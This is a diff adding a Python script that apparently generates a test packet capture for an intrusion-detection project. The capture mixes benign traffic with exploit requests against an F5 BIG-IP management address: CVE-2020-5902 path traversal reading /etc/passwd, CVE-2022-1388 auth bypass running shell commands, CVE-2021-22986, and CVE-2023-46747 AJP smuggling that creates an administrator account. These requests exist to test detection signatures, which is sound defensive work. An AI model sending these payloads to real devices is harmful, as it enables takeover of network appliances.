@@ -1,0 +1,578 @@
+#!/usr/bin/env python3
+"""Writes pcaps/demo/demo.pcap and pcaps/demo/expected.json.
+
+The demo capture: ordinary traffic around a BIG-IP (web sessions, DNS, TLS to a
+virtual server, an admin using the management interface) with exploitation
+attempts against the BIG-IP management address mixed in. README.md beside this file
+describes it packet group by packet group.
+
+The alerts written to expected.json are declared here next to each request, then
+checked against what signatures/rules/bigip-exploit.rules gives on the written bytes
+(pcaps/tools/rulecheck.py, a reference matcher for vigil's payload-only rule subset);
+the script stops with an error when the two disagree, or when a flow's counters in
+the capture differ from what the generator recorded.
+
+Deterministic: run it twice, get the same bytes.   python3 pcaps/demo/make_demo.py
+"""
+
+import json
+import os
+import sys
+
+sys.dont_write_bytecode = True
+HERE = os.path.dirname(os.path.abspath(__file__))
+ROOT = os.path.dirname(os.path.dirname(HERE))
+sys.path.insert(0, os.path.join(ROOT, "pcaps", "tools"))
+
+import pcapgen as pg  # noqa: E402
+import rulecheck  # noqa: E402
+
+RULES = os.path.join(ROOT, "signatures", "rules", "bigip-exploit.rules")
+
+# ---------------------------------------------------------------------------
+# the network
+
+BIGIP_MGMT = "10.1.1.245"           # management address (TMUI, iControl REST)
+BIGIP_MGMT6 = "2001:db8:f5::245"    # its IPv6 management address
+BIGIP_VIP = "10.1.20.10"            # virtual server www.example.com / portal.example.com
+DNS_SERVER = "10.1.10.53"
+WEB1 = "10.1.30.80"                 # intranet.example.org
+WEB2 = "10.1.30.81"                 # api.example.org
+CLIENT1 = "10.1.50.21"
+CLIENT2 = "10.1.50.22"
+ADMIN = "10.1.5.10"                 # administrator's workstation
+EXT_CLIENT = "198.51.100.23"        # a customer on the internet
+ATTACKER1 = "203.0.113.66"
+ATTACKER2 = "198.51.100.77"
+ATTACKER3 = "192.0.2.45"
+ATTACKER6 = "2001:db8:bad::66"
+
+ROUTER_MAC = "02:00:5e:00:00:01"    # everything from outside arrives through the router
+MACS = {
+    BIGIP_MGMT: "02:f5:00:01:02:45", BIGIP_MGMT6: "02:f5:00:01:02:45",
+    BIGIP_VIP: "02:f5:00:20:00:10", DNS_SERVER: "02:00:00:10:00:53",
+    WEB1: "02:00:00:30:00:80", WEB2: "02:00:00:30:00:81",
+    CLIENT1: "02:00:00:50:00:21", CLIENT2: "02:00:00:50:00:22", ADMIN: "02:00:00:05:00:10",
+}
+
+MGMT_VLAN = 100
+UA_BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+              "(KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36")
+UA_REQUESTS = "python-requests/2.32.3"
+UA_CURL = "curl/8.5.0"
+
+TOKEN = "DQ7MZ3LVRYB4NPKX2TAE6WHJ5S"  # 26 characters like an iControl REST token
+
+
+def mac_of(addr):
+    return MACS.get(addr, ROUTER_MAC)
+
+
+class Demo:
+    def __init__(self):
+        self.cap = pg.Capture(pg.LINKTYPE_ETHERNET)
+        self.flows = []      # (group, flow)
+        self.expected = []   # (sid, pcap_cnt, flow name)
+        self.cur_group = None
+
+    def group(self, name, gap_ms=700):
+        self.cur_group = name
+        self.cap.advance(gap_ms * 1000)
+
+    def link(self, client, server, vlans=()):
+        return pg.EthernetLink(mac_of(client), mac_of(server), vlans)
+
+    def tcp(self, name, client, server, vlans=(), **kw):
+        s = pg.TcpSession(self.cap, self.link(client[0], server[0], vlans), client, server, name,
+                          **kw)
+        self.flows.append((self.cur_group, s))
+        return s
+
+    def udp(self, name, client, server):
+        f = pg.UdpFlow(self.cap, self.link(client[0], server[0]), client, server, name)
+        self.flows.append((self.cur_group, f))
+        return f
+
+    def icmp(self, name, client, server):
+        f = pg.IcmpEchoFlow(self.cap, self.link(client, server), (client, None), (server, None),
+                            name)
+        self.flows.append((self.cur_group, f))
+        return f
+
+    def attack(self, session, request, sids, **kw):
+        """Sends one request in one segment and records the alerts it must raise."""
+        nums = session.send(request, ack=False, **kw)
+        assert len(nums) == 1, "attack request %s does not fit one segment" % session.name
+        for sid in sids:
+            self.expected.append((sid, nums[0], session.name))
+        return nums[0]
+
+
+# ---------------------------------------------------------------------------
+# payloads
+
+def html_page(title, paragraphs):
+    body = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n" \
+        "<title>%s</title>\n<link rel=\"stylesheet\" href=\"/static/app.css\">\n</head>\n<body>\n" \
+        "<h1>%s</h1>\n" % (title, title)
+    for i in range(paragraphs):
+        body += "<p id=\"p%d\">Section %d of the %s page. The service desk is open from " \
+            "08:00 to 18:00; call extension 4400 or open a ticket in the portal.</p>\n" % (
+                i, i + 1, title.lower())
+    return (body + "</body>\n</html>\n").encode()
+
+
+CSS = b"".join(b".c%d { margin: %dpx; padding: %dpx; color: #%06x; }\n" % (i, i % 9, i % 5,
+                                                                           (i * 2654435) % 0xFFFFFF)
+               for i in range(24))
+
+
+def resp(status, reason, ctype, body, extra=()):
+    hs = [("Date", "Wed, 15 Oct 2025 12:00:00 GMT"), ("Server", "Apache"),
+          ("Content-Type", ctype)] + list(extra)
+    return pg.http_response(status, reason, hs, body)
+
+
+def mgmt_resp(status, reason, body, ctype="application/json; charset=UTF-8", extra=()):
+    hs = [("Date", "Wed, 15 Oct 2025 12:00:00 GMT"), ("Server", "Jetty(9.2.22.v20170606)"),
+          ("X-Frame-Options", "SAMEORIGIN"), ("Content-Type", ctype)] + list(extra)
+    return pg.http_response(status, reason, hs, body)
+
+
+TMUI_LOGIN_PAGE = html_page("BIG-IP&reg;- Configuration Utility", 3)
+
+
+def ajp_string(s):
+    b = s.encode()
+    return len(b).to_bytes(2, "big") + b + b"\x00"
+
+
+def ajp_forward_request_body(username, password):
+    """The body of an AJP13 forward request as smuggled in CVE-2023-46747 (without
+    the 0x1234 packet header and prefix code): protocol, request URI, remote
+    address and host, server name and port, is_ssl, headers, attributes, and the
+    form that creates an administrator."""
+    form = ("_timenow=a&_timenow_before=&handler=%2ftmui%2fsystem%2fuser%2fcreate&&&"
+            "form_page=%2ftmui%2fsystem%2fuser%2fcreate.jsp%3f&form_page_before=&"
+            "hideObjList=&_bufvalue=vigil-demo-bufvalue&_bufvalue_before=&"
+            "systemuser-hidden=[[\"Administrator\",\"[All]\"]]&systemuser-hidden_before=&"
+            "name=" + username + "&name_before=&passwd=" + password +
+            "&passwd_before=&finished=x&finished_before=").encode()
+    b = ajp_string("HTTP/1.1") + ajp_string("/tmui/Control/form") + ajp_string("127.0.0.1") + \
+        ajp_string("localhost") + ajp_string("localhost") + (443).to_bytes(2, "big") + b"\x00"
+    b += (1).to_bytes(2, "big") + ajp_string("Tmui-Dubbuf") + ajp_string("VIGILDEMO00")
+    b += b"\x0a" + ajp_string("REMOTEROLE") + ajp_string("0")  # attribute: req_attribute
+    b += b"\x03" + ajp_string("admin")                          # attribute: remote_user
+    b += b"\x05" + ajp_string(form.decode())                    # attribute: query_string
+    b += b"\xff"                                                # end of attributes
+    return b
+
+
+def chunked(body, size=None):
+    """One chunk of body (size in hex as given, default its length), then the last chunk."""
+    n = len(body) if size is None else size
+    return b"%x\r\n" % n + body + b"\r\n0\r\n\r\n"
+
+
+# ---------------------------------------------------------------------------
+# the traffic
+
+def benign_dns(d):
+    d.group("B1 DNS")
+    queries = [
+        (CLIENT1, 53001, 0x1a2b, "www.example.com", "A",
+         [("www.example.com", "CNAME", 300, "portal.example.com"),
+          ("portal.example.com", "A", 60, BIGIP_VIP)]),
+        (CLIENT1, 53002, 0x1a2c, "portal.example.com", "AAAA",
+         [("portal.example.com", "AAAA", 60, "2001:db8:f5::10")]),
+        (CLIENT2, 53003, 0x2b01, "intranet.example.org", "A",
+         [("intranet.example.org", "A", 3600, WEB1)]),
+        (CLIENT2, 53004, 0x2b02, "api.example.org", "A",
+         [("api.example.org", "A", 3600, WEB2)]),
+    ]
+    for client, port, qid, name, qtype, answers in queries:
+        f = d.udp("B1-dns-%s-%s" % (name, qtype), (client, port), (DNS_SERVER, 53))
+        f.send(pg.dns_query(qid, name, qtype), gap_us=15000)
+        f.send(pg.dns_response(qid, name, qtype, answers), from_client=False, gap_us=900)
+
+
+def benign_web(d):
+    d.group("B2 HTTP intranet")
+    s = d.tcp("B2-http-get", (CLIENT1, 49152), (WEB1, 80))
+    s.handshake()
+    s.send(pg.http_request("GET", "/", "intranet.example.org",
+                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
+                            ("Accept-Language", "en-US,en;q=0.9"), ("Connection", "keep-alive")]),
+           ack=False)
+    s.send(resp(200, "OK", "text/html; charset=utf-8", html_page("Intranet", 24)),
+           from_client=False, think_us=2500)
+    s.send(pg.http_request("GET", "/static/app.css", "intranet.example.org",
+                           [("User-Agent", UA_BROWSER), ("Accept", "text/css"),
+                            ("Referer", "http://intranet.example.org/"),
+                            ("Connection", "keep-alive")]), ack=False)
+    s.send(resp(200, "OK", "text/css", CSS), from_client=False, think_us=900)
+    s.close(from_client=True)
+
+    d.group("B3 HTTP API")
+    s = d.tcp("B3-http-post", (CLIENT2, 49153), (WEB2, 80))
+    s.handshake()
+    order = b'{"customer":"C-1042","items":[{"sku":"LB-2000","qty":2},{"sku":"SSL-ADD","qty":1}],' \
+        b'"note":"renewal; see contract 2025/17"}'
+    s.send(pg.http_request("POST", "/api/v1/orders", "api.example.org",
+                           [("User-Agent", UA_REQUESTS), ("Accept", "application/json"),
+                            ("Content-Type", "application/json"), ("Connection", "keep-alive")],
+                           order), ack=False)
+    s.send(resp(201, "Created", "application/json", b'{"id":1042,"status":"created"}',
+                [("Location", "/api/v1/orders/1042")]), from_client=False, think_us=4000)
+    s.send(pg.http_request("GET", "/api/v1/orders/1042", "api.example.org",
+                           [("User-Agent", UA_REQUESTS), ("Accept", "application/json"),
+                            ("Connection", "close")]), ack=False)
+    s.send(resp(200, "OK", "application/json",
+                b'{"id":1042,"customer":"C-1042","status":"created","total":"12400.00"}',
+                [("Connection", "close")]), from_client=False, think_us=1500)
+    s.close(from_client=False)
+
+    d.group("B4 HTTP login form")
+    s = d.tcp("B4-http-login", (CLIENT2, 49154), (WEB1, 80))
+    s.handshake()
+    s.send(pg.http_request("GET", "/app/login.jsp;jsessionid=0A1B2C3D4E5F", "intranet.example.org",
+                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
+                            ("Connection", "keep-alive")]), ack=False)
+    s.send(resp(200, "OK", "text/html; charset=utf-8", html_page("Sign in", 2)),
+           from_client=False, think_us=1800)
+    s.send(pg.http_request("POST", "/app/login.jsp", "intranet.example.org",
+                           [("User-Agent", UA_BROWSER), ("Referer", "http://intranet.example.org/app/login.jsp"),
+                            ("Content-Type", "application/x-www-form-urlencoded"),
+                            ("Connection", "keep-alive")],
+                           b"username=jdoe&password=Winter%3B2025%21&next=..%2Fhome"), ack=False)
+    s.send(resp(302, "Found", "text/html", b"", [("Location", "/app/home"),
+                                                   ("Set-Cookie", "JSESSIONID=9F8E7D6C; Path=/app; HttpOnly")]),
+           from_client=False, think_us=3000)
+    s.close(from_client=True)
+
+
+def tls_session(d, name, client, sni, alpn, label, resp_len):
+    s = d.tcp(name, client, (BIGIP_VIP, 443), rtt_us=18000 if client[0] == EXT_CLIENT else 800)
+    s.handshake()
+    s.send(pg.tls_client_hello(sni, alpn=alpn, label=label + "/ch"), ack=False)
+    flight = pg.tls_server_hello(0x1302, label=label + "/sh") + pg.tls_change_cipher_spec() + \
+        pg.tls_application_data(2870, label + "/hs-enc")
+    s.send(flight, from_client=False, think_us=1200)
+    s.send(pg.tls_change_cipher_spec() + pg.tls_application_data(53, label + "/fin") +
+           pg.tls_application_data(210, label + "/req"), ack=False)
+    s.send(pg.tls_application_data(250, label + "/ticket") +
+           pg.tls_application_data(resp_len, label + "/resp"), from_client=False, think_us=3000)
+    s.send(pg.tls_application_data(19, label + "/close-notify"), ack=False)
+    s.close(from_client=True)
+
+
+def benign_tls(d):
+    d.group("B5 TLS to the virtual server")
+    tls_session(d, "B5-tls-internal", (CLIENT1, 49160), "www.example.com", ("h2", "http/1.1"),
+                "b5", 2300)
+    d.group("B6 TLS from the internet", gap_ms=300)
+    tls_session(d, "B6-tls-external", (EXT_CLIENT, 51515), "portal.example.com", ("http/1.1",),
+                "b6", 900)
+
+
+def benign_mgmt(d):
+    d.group("B7 ICMP monitoring")
+    f = d.icmp("B7-icmp-echo", ADMIN, BIGIP_MGMT)
+    for seq in (1, 2):
+        f.ping(seq, bytes(range(0x10, 0x10 + 48)), gap_us=1000000 if seq > 1 else 1000)
+
+    d.group("B8 TMUI login by an administrator")
+    s = d.tcp("B8-tmui-login", (ADMIN, 50001), (BIGIP_MGMT, 8443))
+    s.handshake()
+    s.send(pg.http_request("GET", "/tmui/login.jsp", "%s:8443" % BIGIP_MGMT,
+                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
+                            ("Connection", "keep-alive")]), ack=False)
+    s.send(resp(200, "OK", "text/html;charset=UTF-8", TMUI_LOGIN_PAGE), from_client=False,
+           think_us=6000)
+    s.send(pg.http_request("POST", "/tmui/logmein.html", "%s:8443" % BIGIP_MGMT,
+                           [("User-Agent", UA_BROWSER),
+                            ("Content-Type", "application/x-www-form-urlencoded"),
+                            ("Referer", "https://%s:8443/tmui/login.jsp" % BIGIP_MGMT),
+                            ("Connection", "keep-alive")],
+                           b"username=admin&passwd=Secret-Passw0rd"), ack=False)
+    s.send(resp(302, "Found", "text/html", b"",
+                [("Location", "/tmui/tmui/login/welcome.jsp"),
+                 ("Set-Cookie", "BIGIPAuthCookie=3FA85F6457174562B3FC2C963F66AFA6; path=/; Secure")]),
+           from_client=False, think_us=9000)
+    s.close(from_client=True)
+
+    d.group("B9 iControl REST by automation", gap_ms=400)
+    s = d.tcp("B9-icontrol-rest", (ADMIN, 50002), (BIGIP_MGMT, 8443))
+    s.handshake()
+    s.send(pg.http_request("POST", "/mgmt/shared/authn/login", "%s:8443" % BIGIP_MGMT,
+                           [("User-Agent", UA_REQUESTS), ("Content-Type", "application/json"),
+                            ("Connection", "keep-alive")],
+                           b'{"username":"automation","password":"Aut0-Passw0rd",'
+                           b'"loginProviderName":"tmos"}'), ack=False)
+    s.send(mgmt_resp(200, "OK", ('{"username":"automation","loginProviderName":"tmos",'
+                                 '"token":{"token":"%s","name":"%s","timeout":1200}}'
+                                 % (TOKEN, TOKEN)).encode()), from_client=False, think_us=25000)
+    # Connection before X-F5-Auth-Token: the rule for CVE-2022-1388 must not fire
+    s.send(pg.http_request("GET", "/mgmt/tm/sys/version", "%s:8443" % BIGIP_MGMT,
+                           [("User-Agent", UA_REQUESTS), ("Accept", "application/json"),
+                            ("Connection", "keep-alive"), ("X-F5-Auth-Token", TOKEN)]), ack=False)
+    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:sys:version:versionstats",'
+                                b'"selfLink":"https://localhost/mgmt/tm/sys/version?ver=17.1.1",'
+                                b'"entries":{"Product":"BIG-IP","Version":"17.1.1"}}'),
+           from_client=False, think_us=8000)
+    # real credentials: the base64 starts with YWRtaW46 too
+    s.send(pg.http_request("POST", "/mgmt/tm/util/bash", "%s:8443" % BIGIP_MGMT,
+                           [("User-Agent", UA_REQUESTS), ("Content-Type", "application/json"),
+                            ("Authorization", "Basic YWRtaW46U2VjcmV0LVBhc3N3MHJk"),
+                            ("Connection", "keep-alive")],
+                           b'{"command":"run","utilCmdArgs":"-c \'tmsh show sys version\'"}'),
+           ack=False)
+    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:util:bash:runstate","command":"run",'
+                                b'"commandResult":"Sys::Version\\nMain Package\\n  Product BIG-IP\\n"}'),
+           from_client=False, think_us=40000)
+    s.close(from_client=True)
+
+
+MGMT_HOST = "%s:8443" % BIGIP_MGMT
+
+
+def attacks_tmui(d):
+    mgmt = MGMT_HOST
+
+    d.group("A1 CVE-2020-5902 fileRead")
+    s = d.tcp("A1-cve-2020-5902-fileread", (ATTACKER1, 41001), (BIGIP_MGMT, 8443), rtt_us=42000)
+    s.handshake()
+    d.attack(s, pg.http_request(
+        "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", mgmt,
+        [("User-Agent", UA_REQUESTS), ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"),
+         ("Connection", "keep-alive")]), [8400001])
+    s.send(resp(200, "OK", "text/html; charset=utf-8",
+                b'{"output":"root:x:0:0:root:/root:/bin/bash\\nbin:x:1:1:bin:/bin:/sbin/nologin\\n'
+                b'daemon:x:2:2:daemon:/sbin:/sbin/nologin\\nf5_remoteuser:x:499:499::/home/'
+                b'f5_remoteuser:/sbin/nologin\\n"}\n'), from_client=False, think_us=3000)
+    s.close(from_client=True)
+
+    d.group("A2 CVE-2020-5902 tmshCmd", gap_ms=900)
+    s = d.tcp("A2-cve-2020-5902-tmshcmd", (ATTACKER1, 41002), (BIGIP_MGMT, 8443), rtt_us=42000)
+    s.handshake()
+    d.attack(s, pg.http_request(
+        "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin",
+        mgmt, [("User-Agent", UA_REQUESTS), ("Accept-Encoding", "gzip, deflate"),
+               ("Accept", "*/*"), ("Connection", "keep-alive")]), [8400001, 8400006])
+    s.send(resp(200, "OK", "text/html; charset=utf-8",
+                b'{"error":"","output":"auth user admin {\\n    description \\"Admin User\\"\\n'
+                b'    partition-access {\\n        all-partitions {\\n            role admin\\n'
+                b'        }\\n    }\\n    shell tmsh\\n}\\n"}\n'), from_client=False, think_us=5000)
+    s.close(from_client=True)
+
+
+def attacks_tmui_more(d):
+    mgmt = MGMT_HOST
+    d.group("A3 CVE-2020-5902 encoded variants on port 80")
+    s = d.tcp("A3-cve-2020-5902-encoded", (ATTACKER2, 42001), (BIGIP_MGMT, 80), rtt_us=35000)
+    s.handshake()
+    d.attack(s, pg.http_request(
+        "GET", "/tmui/login.jsp/..%3b/tmui/locallb/workspace/fileRead.jsp?fileName=/config/bigip.conf",
+        BIGIP_MGMT, [("User-Agent", UA_CURL), ("Accept", "*/*")]), [8400002])
+    s.send(resp(200, "OK", "text/html; charset=utf-8",
+                b'{"output":"#TMSH-VERSION: 17.1.1\\n\\nsys global-settings {\\n    hostname '
+                b'bigip1.example.org\\n}\\n"}\n'), from_client=False, think_us=4000)
+    d.attack(s, pg.http_request(
+        "GET", "/tmui/login.jsp/%2e%2e%3b/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts",
+        BIGIP_MGMT, [("User-Agent", UA_CURL), ("Accept", "*/*")]), [8400003])
+    s.send(resp(200, "OK", "text/html; charset=utf-8",
+                b'{"output":"127.0.0.1 localhost\\n10.1.1.245 bigip1.example.org\\n"}\n'),
+           from_client=False, think_us=4000)
+    s.close(from_client=True)
+
+    d.group("A4 CVE-2020-5902 hsqldb")
+    s = d.tcp("A4-cve-2020-5902-hsqldb", (ATTACKER3, 43001), (BIGIP_MGMT, 8443), rtt_us=60000)
+    s.handshake()
+    d.attack(s, pg.http_request("GET", "/hsqldb%0a", mgmt,
+                                [("User-Agent", UA_REQUESTS), ("Accept", "*/*"),
+                                 ("Connection", "keep-alive")]), [8400005])
+    s.send(resp(200, "OK", "text/html",
+                b"<html><head><title>HSQL Database Engine Servlet</title></head><body>"
+                b"<h1>HSQL Database Engine Servlet</h1>The servlet is running.</body></html>\n"),
+           from_client=False, think_us=2000)
+    d.attack(s, pg.http_request("POST", "/hsqldb;", mgmt,
+                                [("User-Agent", UA_REQUESTS), ("Accept", "*/*"),
+                                 ("Content-Type", "application/octet-stream"),
+                                 ("Connection", "keep-alive")],
+                                b"\x00\x00\x00\x3f\x00\x00\x00\x01CALL \"java.lang.System.getProperty\""
+                                b"('user.name')\x00\x00"), [8400004])
+    s.send(resp(200, "OK", "application/octet-stream", b"\x00\x00\x00\x10\x00\x00\x00\x01root\x00"),
+           from_client=False, think_us=2000)
+    s.close(from_client=True)
+
+
+
+def attacks_icontrol(d):
+    mgmt = MGMT_HOST
+    d.group("A5 CVE-2022-1388")
+    s = d.tcp("A5-cve-2022-1388", (ATTACKER2, 42002), (BIGIP_MGMT, 8443), rtt_us=35000)
+    s.handshake()
+    d.attack(s, pg.http_request("POST", "/mgmt/tm/util/bash", mgmt, [
+        ("User-Agent", UA_REQUESTS), ("Accept", "*/*"),
+        ("Connection", "close, X-F5-Auth-Token, X-Forwarded-For, Local-Ip-From-Httpd, "
+                       "X-F5-New-Authtok-Reqd, X-Forwarded-Server, X-Forwarded-Host"),
+        ("Content-Type", "application/json"), ("X-F5-Auth-Token", "a"),
+        ("Authorization", "Basic YWRtaW46")],
+        b'{"command":"run","utilCmdArgs":"-c id"}'), [8400010, 8400011])
+    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:util:bash:runstate","command":"run",'
+                                b'"utilCmdArgs":"-c id","commandResult":"uid=0(root) gid=0(root) '
+                                b'groups=0(root) context=system_u:system_r:initrc_t:s0\\n"}',
+                     extra=[("Connection", "close")]), from_client=False, think_us=30000)
+    s.close(from_client=False)
+
+    d.group("A6 CVE-2022-1388 over IPv6")
+    s = d.tcp("A6-cve-2022-1388-ipv6", (ATTACKER6, 44001), (BIGIP_MGMT6, 8443), rtt_us=50000)
+    s.handshake()
+    d.attack(s, pg.http_request("POST", "/mgmt/tm/util/bash", "[%s]:8443" % BIGIP_MGMT6, [
+        ("User-Agent", UA_CURL), ("Accept", "*/*"),
+        ("Connection", "keep-alive, X-F5-Auth-Token"), ("X-F5-Auth-Token", ""),
+        ("Authorization", "Basic YWRtaW46"), ("Content-Type", "application/json")],
+        b'{"command":"run","utilCmdArgs":"-c \'cat /config/bigip.conf\'"}'), [8400010, 8400011])
+    s.send(mgmt_resp(401, "F5 Authorization Required",
+                     b'{"code":401,"message":"X-F5-Auth-Token does not exist.",'
+                     b'"referer":"2001:db8:bad::66","restOperationId":4413202,'
+                     b'"kind":":resterrorresponse"}'), from_client=False, think_us=8000)
+    s.close(from_client=True)
+
+    d.group("A7 CVE-2021-22986")
+    s = d.tcp("A7-cve-2021-22986", (ATTACKER3, 43002), (BIGIP_MGMT, 8443), rtt_us=60000)
+    s.handshake()
+    d.attack(s, pg.http_request("POST", "/mgmt/shared/authn/login", mgmt, [
+        ("User-Agent", UA_REQUESTS), ("Accept", "*/*"), ("Content-Type", "application/json"),
+        ("Connection", "keep-alive")],
+        b'{"bigipAuthCookie":"","username":"admin","loginReference":{"link":'
+        b'"https://localhost/mgmt/shared/gossip"},"userReference":{"link":'
+        b'"https://localhost/mgmt/shared/authz/users/admin"}}'), [8400020])
+    s.send(mgmt_resp(200, "OK", ('{"username":"admin","loginReference":{"link":'
+                                 '"https://localhost/mgmt/shared/gossip"},"token":{"token":"%s",'
+                                 '"userName":"admin","timeout":1200}}' % TOKEN[::-1]).encode()),
+           from_client=False, think_us=20000)
+    d.attack(s, pg.http_request("POST", "/mgmt/shared/authn/login", mgmt, [
+        ("User-Agent", UA_REQUESTS), ("Accept", "*/*"), ("Content-Type", "application/json"),
+        ("Connection", "keep-alive")],
+        b'{"username":"admin","bigipAuthCookie":"","loginReference": {"link": '
+        b'"http://127.0.0.1/shared/authz/tokens/indexing"}}'), [8400021])
+    s.send(mgmt_resp(400, "Bad Request", b'{"code":400,"message":"request failed",'
+                                         b'"kind":":resterrorresponse"}'),
+           from_client=False, think_us=15000)
+    s.close(from_client=True)
+
+    d.group("A8 CVE-2023-46747 on the management VLAN")
+    s = d.tcp("A8-cve-2023-46747-vlan", (ATTACKER1, 41003), (BIGIP_MGMT, 8443),
+              vlans=(MGMT_VLAN,), rtt_us=42000)
+    s.handshake()
+    ajp = ajp_forward_request_body("vigiladm", "Vigil-Demo-2025")
+    d.attack(s, pg.http_request("POST", "/tmui/login.jsp", mgmt, [
+        ("User-Agent", UA_REQUESTS), ("Transfer-Encoding", "chunked, chunked"),
+        ("Content-Type", "application/x-www-form-urlencoded")],
+        chunked(ajp.ljust(0x204, b"\x00"))), [8400030, 8400031])
+    s.send(resp(200, "OK", "text/html;charset=UTF-8", TMUI_LOGIN_PAGE), from_client=False,
+           think_us=12000)
+    s.close(from_client=True)
+
+
+def build():
+    """Ordinary traffic and attacks alternate, as they would on a real link."""
+    d = Demo()
+    benign_dns(d)
+    benign_web(d)
+    attacks_tmui(d)
+    benign_tls(d)
+    attacks_tmui_more(d)
+    benign_mgmt(d)
+    attacks_icontrol(d)
+    return d
+
+
+def check(d, path):
+    """Cross-checks declared alerts and flow counters against the written capture."""
+    rules, errors = rulecheck.load_rules([RULES])
+    if errors:
+        raise SystemExit("rule errors:\n" + "\n".join(errors))
+    got, flows = rulecheck.run(path, rules)
+    got_set = sorted((a["sid"], a["pcap_cnt"]) for a in got)
+    want_set = sorted((sid, n) for sid, n, _ in d.expected)
+    if got_set != want_set:
+        raise SystemExit("declared alerts differ from the rules:\n  declared %s\n  rules    %s"
+                         % (want_set, got_set))
+    if len(flows) != len(d.flows):
+        raise SystemExit("flow count: generator %d, capture %d" % (len(d.flows), len(flows)))
+    for (_, f), rf in zip(d.flows, flows):
+        i = f.info()
+        mine = (i["src_ip"], i["dest_ip"], i["pkts_toserver"], i["pkts_toclient"],
+                i["bytes_toserver"], i["bytes_toclient"])
+        theirs = (str(rf.client[0]), str(rf.server[0]), rf.pkts[0], rf.pkts[1], rf.bytes[0],
+                  rf.bytes[1])
+        if mine != theirs:
+            raise SystemExit("flow %s: generator %s, capture %s" % (f.name, mine, theirs))
+    return got
+
+
+PROTO_NUM = {"TCP": 6, "UDP": 17, "ICMP": 1, "IPv6-ICMP": 58}
+PROTO_NAME = {6: "TCP", 17: "UDP", 1: "ICMP", 58: "IPv6-ICMP"}
+
+
+def expected_json(d, alerts):
+    counts = {}
+    for a in alerts:
+        counts[str(a["sid"])] = counts.get(str(a["sid"]), 0) + 1
+    by_name = {}
+    for sid, n, name in d.expected:
+        by_name.setdefault(n, name)
+    alert_list = []
+    for a in sorted(alerts, key=lambda a: (a["pcap_cnt"], a["sid"])):
+        rec = dict(a)
+        rec["proto"] = PROTO_NAME[a["proto"]]
+        rec["session"] = by_name[a["pcap_cnt"]]
+        alert_list.append(rec)
+    sessions = []
+    alerted = {n for _, _, n in d.expected}
+    for group, f in d.flows:
+        i = f.info()
+        i["group"] = group
+        i["alerted"] = f.name in alerted
+        i["alert_sids"] = sorted({sid for sid, _, n in d.expected if n == f.name})
+        sessions.append(i)
+    by_proto = {}
+    for _, f in d.flows:
+        by_proto[f.proto_name] = by_proto.get(f.proto_name, 0) + 1
+    return {
+        "description": "vigil demo capture: benign traffic around a BIG-IP plus exploitation "
+                       "attempts against its management address; see README.md",
+        "pcap": "demo.pcap",
+        "rules": ["signatures/rules/bigip-exploit.rules"],
+        "linktype": 1,
+        "packets": len(d.cap.packets),
+        "bytes": d.cap.total_bytes(),
+        "first_ts_us": d.cap.packets[0][0],
+        "last_ts_us": d.cap.packets[-1][0],
+        "flows": len(d.flows),
+        "flows_by_proto": by_proto,
+        "alerts": counts,
+        "total_alerts": len(alerts),
+        "alert_list": alert_list,
+        "sessions": sessions,
+    }
+
+
+def main():
+    d = build()
+    pcap = os.path.join(HERE, "demo.pcap")
+    d.cap.write_pcap(pcap)
+    alerts = check(d, pcap)
+    exp = expected_json(d, alerts)
+    with open(os.path.join(HERE, "expected.json"), "w") as f:
+        json.dump(exp, f, indent=1, sort_keys=True)
+        f.write("\n")
+    print("demo.pcap: %d packets, %d bytes on the wire, %d flows, %d alerts %s" % (
+        exp["packets"], exp["bytes"], exp["flows"], exp["total_alerts"],
+        json.dumps(exp["alerts"], sort_keys=True)))
+
+
+if __name__ == "__main__":
+    main()
